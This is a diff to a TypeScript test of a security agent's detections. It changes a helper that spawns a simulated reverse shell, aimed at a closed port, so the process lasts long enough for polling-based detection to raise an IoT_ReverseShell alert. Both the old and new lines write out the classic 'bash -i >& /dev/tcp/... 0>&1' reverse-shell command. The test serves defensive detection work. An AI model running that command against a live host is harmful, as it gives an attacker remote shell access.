@@ -17,9 +17,10 @@ describe('Detections of an agent', function () {
   });
   afterEach(() => bed.close());
 
-  /** As an attacker would, but to a closed port: the shell ends at once. */
+  /** As an attacker would, but to a closed port. It stays for a while: without audit, starts are found by polling. */
   const reverseShell = async (marker: string) => {
-    const child = spawn('/bin/bash', ['-c', `: ${marker}; bash -i >& /dev/tcp/${CLOSED} 0>&1`], { stdio: 'ignore' });
+    const script = `: ${marker}; bash -i >& /dev/tcp/${CLOSED} 0>&1; sleep 2; :`;
+    const child = spawn('/bin/bash', ['-c', script], { stdio: 'ignore' });
     await once(child, 'exit');
   };
   const alerts = () => bed.elements('SecurityAlert').filter(({ AlertType }) => AlertType === 'IoT_ReverseShell');
